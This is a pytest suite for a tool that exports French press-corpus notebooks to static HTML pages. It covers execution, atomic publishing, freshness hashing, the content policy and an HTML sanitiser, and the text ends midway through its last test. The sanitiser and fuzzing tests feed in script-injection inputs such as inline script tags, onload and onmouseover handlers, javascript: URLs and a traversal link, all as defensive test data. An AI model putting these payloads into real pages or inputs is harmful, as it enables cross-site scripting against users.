"""Notebooks to pages: what comes out, what is kept out, what a browser makes of it."""

import asyncio
import base64
import hashlib
import html
import itertools
import re
import shutil
import sys
from dataclasses import dataclass
from pathlib import Path

import nbformat
import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml.html import fragment_fromstring
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from browser import find_violations, open_browser, open_page, overflows
from conftest import is_killed, make_row, write_corpus
from helpers import check_corpus, explore, load_corpus, show
from helpers.corpus.audit import origins
from helpers.export import building, freshness, provenance
from helpers.export.building import export_notebooks
from helpers.export.render import (
    NotebookError,
    read_content,
    render_index,
    render_page,
)
from helpers.export.sanitising import ALLOWED, clean_html, remove_controls, strip_tags
from helpers.export.sentences import collect_sentences, write_json
from helpers.show.display import Html, caveat, finding, join_findings

WORDS = [
    "État",
    "zone",
    "cœur",
    "élève",
    "coalition",
    "frappe",
    "guerre",
    "Daech",
    "août",
    "irakien",
    "syrien",
    "ministre",
    "défense",
]
COUNTS = [3, 11, 2, 7, 25, 9, 4, 100, 1, 6, 8, 12, 5]
PICTURE = (  # one white pixel
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGP4DwABAQEAG7buVgAAAABJRU5ErkJggg=="
)
CSV = base64.b64encode("outlet,rate\nÉcho,1.5\n".encode()).decode()
MADE_FROM = {"Corpus": "5 articles", "Content hash": "0123abcd", "Made": "2024-01-01"}


def table_html(words=WORDS, counts=COUNTS, name="tab-words"):
    rows = "".join(
        f'<tr><td lang="fr">{word}</td><td class="num" data-sort="{n}">{n}\u202f000</td>'
        f'<td><span class="bar" style="--v:{n / 100:.2f}"></span></td></tr>'
        for word, n in zip(words, counts, strict=True)
    )
    return (
        f'<div class="table"><table class="data" id="{name}"><caption>Words of {name}</caption>'
        '<thead><tr><th scope="col">Lemma</th><th scope="col" class="num">n</th>'
        f'<th scope="col">Share</th></tr></thead><tbody>{rows}</tbody></table></div>'
    )


def figure_html(alt="Bars: Écho 1.5 per thousand words"):
    return (
        f'<figure class="chart" id="fig-rates"><img alt="{alt}" width="640" height="360" '
        f'src="data:image/png;base64,{PICTURE}"><figcaption>Rates; n = 13. '
        f'<a download="rates.csv" href="data:text/csv;base64,{CSV}">Data (CSV)</a>'
        "</figcaption></figure>"
    )


EVIDENCE = "".join(
    f'<li data-outlet="Écho {i % 2}" data-label="critical" '
    f'data-frame="war; {"law" if i < 3 else "war"}">'
    f'<blockquote lang="fr">Les <mark class="critical">{word}</mark> n’ont <ins>guère</ins> '
    f"<del>pas</del> suffi.</blockquote><cite>Écho, {i}</cite> <small>critical</small></li>"
    for i, word in enumerate(WORDS)
)


FOUND = [
    ["a", 1, "L’État frappe ; les frappes de l’E\u0301tat suivent.", [0], [], 0, 0],
    ["b", 1, "Sans cœur, la frappe ⟨b⟩ <b onmouseover=alert(1)>recule</b>.", [], [0], 1, 0],
    ["b", 2, "Refrappe n’est pas un mot.", [], [], 0, 1],
]
SENTENCES = {
    "articles": [
        ["a", "Écho 0", "2016-01-20", "Écho 0, 2016-01-20"],
        ["b", "Écho 1", "", "Écho 1"],
    ],
    "rows": [["ab".index(row[0]), *row[1:]] for row in FOUND],
    "entities": ["État"],
    "frames": ["war"],
    "labels": ["none", "critical"],
    "holders": ["outlet", "Paul"],
    "lemmas": {"frapper": ["frappe", "frappes"]},
    "n_all": 9,
}
DRAWN = (
    '<svg class="wide" role="group" viewBox="0 0 100 40" aria-label="Dots: one per outlet">'
    + "".join(
        f'<g aria-label="Écho {i}: n = {i + 3}" data-outlet="Écho {i}"><circle cx="{30 * i + 20}" '
        'cy="20" r="6" fill="var(--c0,#0072b2)"/></g>'
        for i in range(2)
    )
    + "</svg>"
)
DRAWN = f'<figure class="chart" id="fig-drawn">{DRAWN}<figcaption>D</figcaption></figure>'


def html_cell(body, source="show_it()"):
    return new_code_cell(source, outputs=[new_output("display_data", {"text/html": body})])


def rich_notebook():
    """Every kind of content, as if it had been executed."""
    lines = "".join(f"\n\n## Part {i}\n\n" + "Some prose to scroll past. " * 30 for i in range(3))
    return new_notebook(
        cells=[
            new_markdown_cell(
                "# Which words?\n\nAn *opening* from $30 to $45 and [a part](#Part-1), "
                "[the plain one](10-plain.ipynb).\n"
            ),
            html_cell(
                '<p class="finding">Écho writes <q lang="fr">frappe</q> <b>9</b> times.</p>'
                '<p class="caveat">One article each.</p>'
            ),
            new_markdown_cell("## Same name\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n"),
            html_cell(figure_html()),
            new_markdown_cell("## Same name\n\n### Deeper\n\n```python\nx = 1\n```"),
            html_cell(table_html() + table_html(WORDS[:3], COUNTS[:3], "tab-short")),
            html_cell(
                f'<ol class="evidence">{EVIDENCE}</ol><dl class="facts"><dt>n</dt>'
                "<dd>13</dd></dl><details class='columns'><summary>More</summary>"
                "<p>Folded (Hardie 2014).</p></details>"
            ),
            new_code_cell(
                "result",
                execution_count=7,
                outputs=[
                    new_output("execute_result", {"text/plain": "'<b>kept</b>'"}, execution_count=7)
                ],
            ),
            html_cell(show.table(pd.DataFrame({"word": ["=1+1"], "share": [0.5]}), "Saved")),
            html_cell(
                f'<figure class="chart" id="fig-drawn">{DRAWN}<figcaption>D</figcaption></figure>'
            ),
            new_markdown_cell(lines),
        ]
    )


def page_of(nb, *, made_from=MADE_FROM):
    about = {"made_from": made_from, "articles": [], "summary": None}
    about["sentences"] = write_json(SENTENCES)
    return render_page(read_content(nb, "2-words"), about=about)


@dataclass(frozen=True)
class Corpus:
    articles: pd.DataFrame
    content_hash: str = "0123abcd"
    pipeline: str = "fr_demo 1.0"
    folder: Path = Path("no-such-folder")

    def grouped(self, by):
        return self


def make_corpus(folder, n_articles=3):
    for i in range(n_articles):
        (folder / "raw").mkdir(exist_ok=True)
        (folder / f"raw/a{i}.txt").write_text(f"Un texte {i}.", encoding="utf-8")
    return Corpus(
        pd.DataFrame(
            {
                "doc_id": [f"a{i}" for i in range(n_articles)],
                "outlet": [f"Écho {i % 2}" for i in range(n_articles)],
                "title": [None, *(f"L’été n° {i}" for i in range(1, n_articles))],
                "date": pd.to_datetime([None, *["2016-01-20"] * (n_articles - 1)]),
                "date_status": ["", *["inferred"] * (n_articles - 1)],
                "provenance_note": ["outlet <b>unknown</b>"] * n_articles,
                "n_words": [1000] * n_articles,
            }
        ),
        folder=folder,
    )


# ---------------------------------------------------------------- executing


@pytest.fixture(scope="module")
def exported(tmp_path_factory, small_folder):
    """Two notebooks run and exported for real; (folder of the notebooks, folder of the pages)."""
    root = tmp_path_factory.mktemp("export")
    notebooks = root / "notebooks"
    notebooks.mkdir()
    plain = new_notebook(
        cells=[
            new_markdown_cell("Some text first.\n\n# A *plain* one"),
            new_code_cell(
                "import os, sys, warnings\n"
                "warnings.warn('not for the page')\n"
                "print('progress', f'{5 * 10}%', 'done', sep='\\r')\n"
                "print('said aloud')"
            ),
            new_code_cell("os.environ['PRESSE_FIGURES'], os.path.basename(os.getcwd())"),
            new_code_cell(
                "os.makedirs(os.environ['PRESSE_FIGURES'], exist_ok=True)\n"
                "_ = open(os.environ['PRESSE_FIGURES'] + '/f.png', 'wb').write(b'x')"
            ),
            new_code_cell("sys.executable"),
        ]
    )
    short = new_notebook(
        cells=[
            new_markdown_cell("# Which words?"),
            new_code_cell(
                "from IPython.display import HTML\n"
                'HTML(\'<p class="finding">First <b>1</b>.</p><p class="finding">Second.</p>\')'
            ),
        ]
    )
    nbformat.write(plain, notebooks / "10-plain.ipynb")
    nbformat.write(short, notebooks / "2-words.ipynb")
    out = root / "html"
    index = export_notebooks(notebooks, out, corpus=small_folder, figures=out / "figures")
    assert index == out / "index.html"
    return notebooks, out


def test_pages_are_written_in_natural_order(exported):
    _, out = exported
    assert sorted(path.name for path in out.iterdir()) == [
        ".executed",
        ".export.json",
        "10-plain.html",
        "2-words.html",
        "figures",
        "index.html",
    ]
    index = (out / "index.html").read_text(encoding="utf-8")
    assert index.index("#2-words--chapter") < index.index("#10-plain--chapter")
    assert '<p class="headline">First <b>1</b>.</p>' in index
    assert "A plain one</a>" in index


def test_notebooks_run_in_their_folder_with_this_python_and_their_figures(exported):
    notebooks, out = exported
    page = html.unescape((out / "10-plain.html").read_text(encoding="utf-8"))
    assert f"'{sys.executable}'" in page
    assert "'notebooks')" in page
    assert (out / "figures" / "f.png").read_bytes() == b"x"
    assert nbformat.read(notebooks / "10-plain.ipynb", 4).cells[1].outputs == []


def test_progress_bars_and_warnings_are_dropped_and_speech_is_kept(exported):
    page = (exported[1] / "10-plain.html").read_text(encoding="utf-8")
    assert ">said aloud</pre>" in page
    assert "50%" not in page
    assert page.count("not for the page") == 1  # in the code, not in an output


def test_no_page_leads_to_a_file_beside_it(exported):
    _, out = exported
    for page in out.glob("*.html"):
        text = page.read_text(encoding="utf-8")
        ids = {html.unescape(name) for name in re.findall(r'<[^>]* id="([^"]+)"', text)}
        for link in re.findall(r'href="([^"]+)"', text):
            if not link.startswith(("data:", "https:")):
                assert html.unescape(link).removeprefix("#") in ids, (page.name, link)


@pytest.fixture
def export(small_folder):
    """The export of the made-up corpus, its figures among the pages."""
    return lambda notebooks, out: export_notebooks(
        notebooks, out, corpus=small_folder, figures=out / "figures"
    )


def test_a_failed_notebook_is_named_and_leaves_the_pages(exported, export, tmp_path):
    _, out = exported
    before = {path: path.read_bytes() for path in out.rglob("*.*") if path.is_file()}
    broken = tmp_path / "notebooks"
    broken.mkdir()
    cells = [
        new_markdown_cell("# Bad"),
        new_code_cell("x = 1"),
        new_code_cell("# divide\nx / 0"),
    ]
    nbformat.write(new_notebook(cells=cells), broken / "3-bad.ipynb")
    with pytest.raises(NotebookError) as error:
        export(broken, out)
    assert str(error.value) == (
        "3-bad.ipynb, code cell 2 (“# divide”): ZeroDivisionError: division by zero"
    )
    after = {path: path.read_bytes() for path in out.rglob("*.*") if path.is_file()}
    assert after == before
    assert [path.name for path in out.parent.iterdir() if path.name.startswith(".")] == []


def test_a_kernel_that_dies_is_named(export, tmp_path):
    nb = new_notebook(cells=[new_code_cell("import os\nos._exit(1)")])
    nbformat.write(nb, tmp_path / "1-dies.ipynb")
    with pytest.raises(NotebookError, match=r"1-dies\.ipynb, code cell 1 .*DeadKernelError"):
        export(tmp_path, tmp_path / "html")
    assert not (tmp_path / "html").exists()


def test_what_cannot_be_read_or_replaced_is_refused(export, tmp_path):
    with pytest.raises(FileNotFoundError, match="no notebook"):
        export(tmp_path, tmp_path / "html")
    (tmp_path / "1-x.ipynb").write_text("not JSON", encoding="utf-8")
    with pytest.raises(NotebookError, match=r"1-x\.ipynb cannot be read"):
        export(tmp_path, tmp_path / "html")
    for hidden in (".notes/thesis.txt", "figures/my-own.png"):
        mine = tmp_path / "mine" / hidden
        mine.parent.mkdir(parents=True, exist_ok=True)
        mine.write_text("mine", encoding="utf-8")
        with pytest.raises(FileExistsError, match="was not written by an export"):
            export(tmp_path, tmp_path / "mine")
        assert mine.read_text(encoding="utf-8") == "mine"
    precious = tmp_path / "html" / "precious.html"
    precious.parent.mkdir()
    precious.write_text("my own page", encoding="utf-8")
    with pytest.raises(FileExistsError, match=r"precious\.html was not written by an export"):
        export(tmp_path, tmp_path / "html")
    assert precious.read_text(encoding="utf-8") == "my own page"


def write_pages(folder, words):
    (folder / "figures").mkdir(parents=True)
    for name in ("index.html", "figures/a.csv"):
        (folder / name).write_text(words, encoding="utf-8")
    freshness.write_manifest(folder, freshness.Manifest())
    return folder


def publish(out):
    """What an export does with the pages that it has made."""
    with building._work_beside(out) as work:
        building._switch(write_pages(work / "unfinished", "new").rename(work / "made"), out)


@pytest.mark.parametrize("in_one_step", [True, False])
def test_a_killed_switch_leaves_whole_pages_and_what_a_person_saved_there(
    tmp_path, monkeypatch, in_one_step
):
    """kill -9 at every step; the second run finds the old pages or the new, and nothing else."""
    if not in_one_step:
        monkeypatch.setattr(building, "_exchange", lambda *_: False)
    for steps in itertools.count():
        out = write_pages(tmp_path / f"{steps}/html", "old")
        (out / "notes.txt").write_text("mine", encoding="utf-8")  # saved while it ran
        was_killed = is_killed(publish, out, after=steps)
        if in_one_step:
            assert (out / "index.html").read_text(encoding="utf-8") in ("old", "new")
        assert freshness.name_work(out).exists() == was_killed
        with building._work_beside(out):
            pages = {(out / name).read_text("utf-8") for name in ("index.html", "figures/a.csv")}
        assert len(pages) == 1
        assert (out / "notes.txt").read_text(encoding="utf-8") == "mine"
        assert [path.name for path in out.parent.iterdir()] == ["html"]
        if not was_killed:
            break
    assert steps > 3


def test_a_file_of_a_persons_own_is_kept_beside_a_page_of_its_name(tmp_path):
    out = write_pages(tmp_path / "html", "old")
    (out / ".export.json").unlink()  # an export wrote none of these
    publish(out)
    assert (out / "index.html").read_text(encoding="utf-8") == "new"
    assert (out / "kept-index.html").read_text(encoding="utf-8") == "old"


def export_noting(notebooks, out, corpus, figures):
    """Export and tell which notebooks ran."""
    told = []
    export_notebooks(notebooks, out, corpus=corpus, figures=figures, tell=told.append)
    return sorted(line.split(".")[0] for line in told)


@pytest.fixture
def pair(tmp_path):
    """Two notebooks, each writing a figure of its own; their folder."""
    for name in ("1-a", "2-b"):
        code = (
            "import os, pathlib\nfolder = pathlib.Path(os.environ['PRESSE_FIGURES'])\n"
            f"folder.mkdir(exist_ok=True)\n_ = (folder / '{name}.png').write_bytes(b'{name}')"
        )
        cells = [new_markdown_cell(f"# {name}"), new_code_cell(code)]
        nbformat.write(new_notebook(cells=cells), tmp_path / f"{name}.ipynb")
    return tmp_path


@pytest.mark.parametrize("place", ["html/figures", "figures"])
def test_only_what_changed_runs_again(pair, place, small_folder):
    out, figures = pair / "html", pair / place
    small_folder = small_folder.resolve()
    assert not freshness.is_current(pair, out, small_folder, figures)
    assert export_noting(pair, out, small_folder, figures) == ["1-a", "2-b"]
    assert freshness.is_current(pair, out, small_folder, figures)
    before = (out / "2-b.html").read_text(encoding="utf-8")
    nb = nbformat.read(pair / "1-a.ipynb", as_version=4)
    nb.cells[0].source = "# Another title"
    nbformat.write(nb, pair / "1-a.ipynb")
    assert not freshness.is_current(pair, out, small_folder, figures)
    assert export_noting(pair, out, small_folder, figures) == ["1-a"]
    assert freshness.is_current(pair, out, small_folder, figures)
    assert "Another title" in (out / "1-a.html").read_text(encoding="utf-8")
    assert "Another title" in (out / "index.html").read_text(encoding="utf-8")
    assert "Another title" not in before
    assert sorted(path.name for path in figures.iterdir()) == ["1-a.png", "2-b.png"]
    (figures / "2-b.png").write_bytes(b"edited by hand")
    assert not freshness.is_current(pair, out, small_folder, figures)
    (figures / "2-b.png").unlink()
    assert export_noting(pair, out, small_folder, figures) == ["2-b"]
    (out / ".executed" / "1-a.ipynb").write_text("{}", encoding="utf-8")
    assert export_noting(pair, out, small_folder, figures) == ["1-a"]
    (out / "index.html").unlink()
    assert not freshness.is_current(pair, out, small_folder, figures)
    assert export_noting(pair, out, small_folder, figures) == []
    assert (out / "index.html").is_file()


def test_the_corpus_and_the_helpers_have_their_part(pair, small_folder, monkeypatch):
    keys = freshness.hash_inputs(pair, small_folder)
    assert freshness.hash_inputs(pair, small_folder) == keys
    copy = Path(shutil.copytree(small_folder, pair / "corpus"))
    assert freshness.hash_inputs(pair, copy) == keys
    (copy / "derived" / "x").mkdir(parents=True, exist_ok=True)
    (copy / "derived" / "x" / "y").write_text("made anew at need")
    assert freshness.hash_inputs(pair, copy) == keys
    with (copy / "articles.csv").open("a", encoding="utf-8") as file:
        file.write("\n")
    changed = freshness.hash_inputs(pair, copy)
    assert all(changed[name] != keys[name] for name in keys)
    (copy / "aliases.csv").write_text("entity,label,alias\nLyon,LOC,Lugdunum\n", encoding="utf-8")
    named = freshness.hash_inputs(pair, copy)
    assert all(named[name] != changed[name] for name in keys)
    helpers = pair / "helpers"
    shutil.copytree(freshness.HELPERS, helpers, ignore=shutil.ignore_patterns("weights", "*.pyc"))
    monkeypatch.setattr(freshness, "HELPERS", helpers)
    keys = freshness.hash_inputs(pair, copy)
    (helpers / "export" / "page" / "page.css").write_text("p { color: red }")
    assert freshness.hash_inputs(pair, copy) != keys


def test_a_run_that_is_cut_off_makes_no_page(pair, export, monkeypatch):
    async def cut_off(nb, path, environment):
        raise asyncio.CancelledError

    monkeypatch.setattr(building, "_execute", cut_off)
    with pytest.raises(NotebookError, match=r"1-a\.ipynb was cut off"):
        export(pair, pair / "html")
    assert not (pair / "html").exists()


def test_a_failed_run_leaves_figures_alone(pair, small_folder):
    out, figures = pair / "html", pair / "figures"
    export_notebooks(pair, out, corpus=small_folder, figures=figures)
    nb = nbformat.read(pair / "1-a.ipynb", as_version=4)
    nb.cells[1].source = nb.cells[1].source.replace("b'1-a'", "b'new'") + "\n1 / 0"
    nbformat.write(nb, pair / "1-a.ipynb")
    with pytest.raises(NotebookError, match="ZeroDivisionError"):
        export_notebooks(pair, out, corpus=small_folder, figures=figures)
    assert (figures / "1-a.png").read_bytes() == b"1-a"
    assert (out / "1-a.html").is_file()


# ---------------------------------------------------------------- rendering


def test_template_is_small_and_the_policy_names_script_and_style():
    page = page_of(new_notebook())
    assert len(page.encode()) <= 56_000
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', page)[1]
    for tag, directive in [("style", "style-src"), ("script", "script-src")]:
        (body,) = re.findall(rf"<{tag}>(.*?)</{tag}>", page, re.S)
        digest = base64.b64encode(hashlib.sha256(body.encode()).digest()).decode()
        assert f"{directive} 'sha256-{digest}';" in policy
    assert "default-src 'none'" in policy
    assert "img-src data:;" in policy
    assert "form-action 'none'; base-uri 'none'" in policy


def test_results_findings_and_errors_are_on_the_page():
    nb = rich_notebook()
    nb.cells.append(
        new_code_cell(
            "fails()",
            metadata={"tags": ["raises-exception"]},
            outputs=[new_output("error", ename="KeyError", evalue="'<i>x</i>'", traceback=["…"])],
        )
    )
    page = page_of(nb)
    assert "&#x27;&lt;b&gt;kept&lt;/b&gt;&#x27;</pre>" in page
    assert "KeyError: &#x27;&lt;i&gt;x&lt;/i&gt;&#x27;</pre>" in page
    assert '<p class="headline">Écho writes <q lang="fr">frappe</q> <b>9</b> times.</p>' in page
    assert "Code <span>[7]</span>" in page
    assert 'style="--v:0.25"' in page
    assert "from $30 to $45 and" in page  # a formula has no place in what is read from texts
    assert page.count("<h1") == 1


def test_ids_are_unique_and_contents_lead_somewhere():
    nb = rich_notebook()
    nb.cells += [html_cell(figure_html()), html_cell('<p id="main">x</p><p id="fig-rates">y</p>')]
    page = page_of(nb)
    ids = [html.unescape(name) for name in re.findall(r'<[^>]* id="([^"]+)"', page)]
    assert len(ids) == len(set(ids))
    assert {"Same-name", "Same-name-2", "Deeper", "fig-rates", "fig-rates-2", "tab-words"} <= {*ids}
    links = [html.unescape(name) for name in re.findall(r'href="#([^"]+)"', page)]
    assert {"Same-name-2", "Part-1", "main"} <= set(links) <= set(ids)


@pytest.mark.parametrize("alt", ["", " ", "figure", "Plot 3", "chart.", None])
def test_a_picture_without_description_stops_the_page(alt):
    body = figure_html(alt) if alt is not None else figure_html().replace("alt=", "title=")
    nb = new_notebook(cells=[new_markdown_cell("text"), html_cell(body, "draw()")])
    with pytest.raises(NotebookError, match=r"code cell 1 \(“draw\(\)”\): a picture has no desc"):
        page_of(nb)


def test_a_bare_picture_stops_the_page_and_a_bare_widget_leaves_nothing():
    bare = new_output("display_data", {"image/png": PICTURE, "text/plain": "<Figure>"})
    with pytest.raises(NotebookError, match="a picture has no description"):
        page_of(new_notebook(cells=[new_code_cell("plot()", outputs=[bare])]))
    widget = {"application/vnd.jupyter.widget-view+json": {}, "text/plain": "HBox(children=0)"}
    output = new_output("display_data", widget)
    assert "HBox(" not in page_of(new_notebook(cells=[new_code_cell("w()", outputs=[output])]))
    both = new_output("display_data", widget | {"text/html": "<p>snapshot</p>"})
    page = page_of(new_notebook(cells=[new_code_cell("w()", outputs=[both])]))
    assert "<p>snapshot</p>" in page


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ('<p class="finding evil">x</p>', '<p class="finding">x</p>'),
        ('<span style="--v:0.42">', '<span style="--v:0.42"></span>'),
        ('<span style="--v:0.42;color:red">x</span>', "<span>x</span>"),
        ('<span style="--v:url(//x)">x</span>', "<span>x</span>"),
        ('<p style="position:fixed">x</p>', "<p>x</p>"),
        ("<script>alert(1)</script>x", "x"),
        ("<style>*{color:red}</style>x", "x"),
        ('<b id="fig-a">x</b><b id="fig-a">y</b>', '<b id="fig-a">x</b><b id="fig-a-2">y</b>'),
        ('<b id="main" lang="fr" onclick="f()">x</b>', '<b lang="fr">x</b>'),
        ("<h2>x</h2><math><mi>y</mi></math>", "x"),
        ('<img src="https://x.example/p.png" alt="a photo">', ""),
        ('<img src="data:image/svg+xml;base64,AA==" alt="a photo">', ""),
        ('<a href="../secret.txt">x</a>', '<a rel="noopener noreferrer">x</a>'),
        ('<a href="2-x.ipynb#A">x</a>', '<a href="2-x.html#A" rel="noopener noreferrer">x</a>'),
        ('<td data-sort="1">', ""),
        (
            "<table><tr><td>2016-01-20<td>a b</table>",
            '<div class="scroll" role="region" tabindex="0" aria-label="Table"><table><tbody><tr>'
            '<td class="whole">2016-01-20</td><td>a b</td></tr></tbody></table></div>',
        ),
        (
            '<svg aria-label="a" onload="x()"><g data-outlet="&quot;><i>" onclick="x()"><path '
            'd="M0 0L1 1z" fill="url(//e.x)" style="fill:red"/></g><image href="//e.x"/></svg>',
            '<svg aria-label="a"><g data-outlet="&quot;&gt;&lt;i&gt;"><path d="M0 0L1 1z"/>'
            "</g></svg>",
        ),
        ("<svg/onload=x>text", "text"),
        ("a class=\"\" b='' &amp; <", "a class=\"\" b='' &amp; &lt;"),
    ],
)
def test_cleaning_keeps_the_contract_and_nothing_else(before, after):
    assert clean_html(before) == after


@given(st.text())
def test_escaped_text_of_any_kind_comes_through_unchanged(text):
    kept = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", "", text).replace("\r\n", "\n")
    kept = kept.replace("\r", "\n").removeprefix("\ufeff")  # at the start it marks an encoding
    assert html.unescape(clean_html(html.escape(text))) == kept


KINDS = ("tags", "headings", "drawing")
ALLOWED_TAGS = {tag for kind in KINDS for tag in ALLOWED[kind].split()}
MARKUP = st.lists(
    st.sampled_from([
        "<svg", "<math", "<style", "<table", "<caption", "<td", "<th", "<a", "<p", "<mark", "<img",
        "<script", "<title", "<textarea", "<noscript", "<!--", "-->", "<![CDATA[", "]]>", "</", ">",
        "/>", " href=", " src=", " id=", ' id="fig-a"', " onload=", " style=", ' alt="a view"', "x",
        ' aria-label="a"', '"', "'", "=", " ", "\n", "&lt;", "&#60;", "&", ";", "javascript:", "\0",
        "data:text/html,", "data:image/png;base64,AA", "</table>", "</caption>", "</svg>", "b",
    ]), max_size=30).map("".join)  # fmt: skip


@given(MARKUP, st.booleans())
def test_of_any_markup_only_what_is_allowed_comes_through(text, markdown):
    try:
        cleaned = clean_html(text, markdown=markdown)
    except ValueError as error:
        assert "has no description" in str(error)
        return
    parts = fragment_fromstring(cleaned, create_parent="div").iter()
    ids = []
    for part in parts:
        assert part.tag in ALLOWED_TAGS, cleaned
        ids += [part.get("id")] if part.get("id") else []
        for name, value in part.items():
            assert not name.startswith("on") and "javascript:" not in value, cleaned
            assert name != "style", cleaned
    assert len(ids) == len(set(ids))


def test_lone_surrogates_do_not_stop_an_export():
    assert clean_html("a\ud800b") == "a?b"


def contents_of(**outputs):
    """A notebook for each output, by its title."""
    notebooks = {
        name: new_notebook(cells=[new_markdown_cell(f"# Which {name}?"), html_cell(output)])
        for name, output in outputs.items()
    }
    return [read_content(nb, name) for name, nb in notebooks.items()]


def test_index_names_corpus_notebooks_and_making(tmp_path):
    about = provenance.describe_build(make_corpus(tmp_path))
    content = read_content(new_notebook(cells=[new_markdown_cell("# A `<b>title</b>`")]), "1-a")
    page = render_index([content], about=about)
    assert "3 articles from 2 outlets" in page
    assert "2016-01-20; 1 without a date: 3 articles from 2 outlets, 3\u202f000 words." in page
    assert "outlet &lt;b&gt;unknown&lt;/b&gt;" in page
    assert 'href="#1-a--chapter">A &lt;b&gt;title&lt;/b&gt;</a>' in page
    assert page.count('<td lang="fr">L’été n° ') == 2 and "date is" in page
    assert "kind of outlet" not in page  # nothing is known of it
    for text in ("0123abcd", "fr_demo 1.0", f"pandas {pd.__version__}", "UTC"):
        assert text in page
    assert hashlib.sha256(b"Un texte 2.").hexdigest() in page and "a group by" not in page
    page = render_index([], about=provenance.describe_build(make_corpus(tmp_path), "year"))
    assert "call an outlet is a group by year." in page and " words, grouped by year" in page


def weigh(said, weight):
    return Html(said.replace(">", f' data-weight="{weight}">', 1))


def test_a_card_says_the_weightiest_first_and_no_page_says_anything_twice(tmp_path):
    facts = [weigh(finding("Fact {n}.", n=n), n + 2) for n in range(6)]
    note = Html('<p class="note">So it was counted.</p>')
    nb = new_notebook(
        cells=[
            new_markdown_cell("# Which?"),
            html_cell(join_findings([*facts[:2], note]) + caveat("Few articles.")),
            html_cell(figure_html()),
            new_markdown_cell("## Below"),
            html_cell(join_findings([facts[1], *facts[2:]])),
            html_cell(figure_html().replace("n = 13. ", "n = 13. Own words. ")),
            new_markdown_cell("## Silent"),
            html_cell('<p class="nothing">None stands out.</p>'),
            html_cell('<p class="note">So many were counted.</p>'),
            new_markdown_cell("## Limits\n\n- **Show:** x\n- **Cannot show:** why\n- more"),
        ]
    )
    content = read_content(nb, "1-a")
    told = [(piece.kind, strip_tags(piece.html), piece.name) for piece in content.card]
    assert told == [
        ("headline", "Fact 5.", "Below"),
        ("line", "Fact 4.", "Below"),
        ("line", "Fact 1.", ""),
        ("line", "Fact 0.", ""),
        ("figure", "Rates; n = 13. Data (CSV) #", ""),
        ("sure", "Few articles.", ""),
        ("cannot", "Cannot show: why", ""),
    ]
    assert [section.text for section in content.sections] == ["Which?", "Below", "Limits"]
    (second,) = [one for one in content.sections[1].pieces if one.kind == "figure"]
    assert strip_tags(second.html) == "Own words. Data (CSV) #"  # the rest stands in the first
    lines = [piece for piece in content.sections[1].pieces if piece.kind == "finding"]
    assert [(strip_tags(line.html), line.is_folded) for line in lines] == [
        ("Fact 5.", False),
        ("Fact 4.", False),
        ("Fact 3.", False),
        ("Fact 2.", True),
    ]
    about = provenance.describe_build(make_corpus(tmp_path))
    other = contents_of(copies=weigh(finding("Two outlets print one text."), 9))[0]
    index = render_index([content, other], about=about)
    headline = re.search(r'<p class="headline">(.*?)</p>', index)[1]
    assert headline == "Two outlets print one text."
    assert '<meta property="og:description" content="Two outlets print one text.">' in index
    # Three lines of a page at most, though it has four; what is said of one text stays together.
    assert list_lines(index) == ["Fact 5.", "Fact 4.", "Fact 1."]
    assert list_lines(render_index([content], about=about)) == ["Fact 4.", "Fact 1."]


def list_lines(index):
    lines = re.search(r'<ul class="lines">(.*?)</ul>', index, re.S)[1]
    return [strip_tags(line) for line in re.findall(r"<li>(.*?) <a", lines)]


def test_a_section_with_nothing_open_is_one_line_that_opens_it(tmp_path):
    table = show.table(pd.DataFrame({"n": [1, 2]}), "Counts")
    heads = ["# Which?", "## Above", "### Mute\n\nSo it is done.", "## Telling"]
    shown = [finding("One."), table, table, finding("Two.") + table]
    cells = [
        cell
        for head, output in zip(heads, shown, strict=True)
        for cell in (new_markdown_cell(head), html_cell(output))
    ]
    content = read_content(new_notebook(cells=cells), "1-a")
    folded = {section.text: section.is_folded for section in content.sections}
    assert folded == {"Which?": False, "Above": False, "Mute": True, "Telling": False}
    page = render_page(content, about=provenance.describe_build(make_corpus(tmp_path)))
    (line,) = re.findall(r'<details class="more section"><summary>(.*?)</summary>', page)
    assert line == '<h3 id="Mute">Mute </h3>'  # no link within what is clicked


def test_an_article_without_a_title_goes_by_its_number_and_one_outlet_is_one(tmp_path):
    corpus = make_corpus(tmp_path, 1)
    corpus.articles["title"] = ""
    assert origins(corpus)["title"].tolist() == ["a0"]
    about = provenance.describe_build(corpus)
    assert "1 article from 1 outlet," in render_index([], about=about)
    assert about["made_from"]["Corpus"].startswith("1 article, ")


def test_a_long_corpus_is_listed_by_outlet(tmp_path):
    about = provenance.describe_build(long := make_corpus(tmp_path, 101))
    listed = origins(long)[["outlet", "n_printed", "n_words", "date_status"]].to_numpy().tolist()
    assert listed == [["Écho 0", 51, 51_000, "inferred"], ["Écho 1", 50, 50_000, "inferred"]]
    assert about["articles"] == []
    assert "51\u202f000" in render_index([], about=about)


def test_of_two_texts_side_by_side_the_second_half_is_folded():
    long = pd.DataFrame(
        {"status": "edited", "first": [[("mot " * 60, "")]] * 5, "second": [[]] * 5}
    )
    long.attrs = {"first": "A", "second": "B"}
    content = read_content(
        new_notebook(cells=[html_cell(show.pairs(long, "The texts"))]), "5-pairs"
    )
    halves = [one for one in content.sections[0].pieces if one.kind == "pairs"]
    assert [(one.name, one.n, one.is_folded) for one in halves] == [
        ("The texts", 2, False),
        ("The texts: the rest", 3, True),
    ]
    assert [one.html.count("<tr><th") for one in halves] == [3, 4]  # with their heads


def test_a_section_that_prints_nothing_is_left_out_with_its_prose_and_its_sections(tmp_path):
    nb = new_notebook(
        cells=[
            new_markdown_cell("# Title\n\nOpening."),
            new_code_cell("setup()"),
            new_markdown_cell("## Method\n\nOnly words."),
            new_markdown_cell("## Gone\n\nProse that goes (Hardie 2014).\n\n- ## Listed"),
            new_code_cell("first()", outputs=[new_output("display_data", {"text/html": ""})]),
            new_markdown_cell("### Gone too"),
            html_cell("<p> </p><script>x</script>".replace("<p> </p>", ""), "second()"),
            new_markdown_cell("More that goes.\n\n## Half\n\nProse that stays."),
            new_markdown_cell("### Silent"),
            new_code_cell("third()"),
            new_markdown_cell("### Spoken"),
            html_cell("<p>Said.</p>", "fourth()"),
        ]
    )
    content = read_content(nb, "1-a")
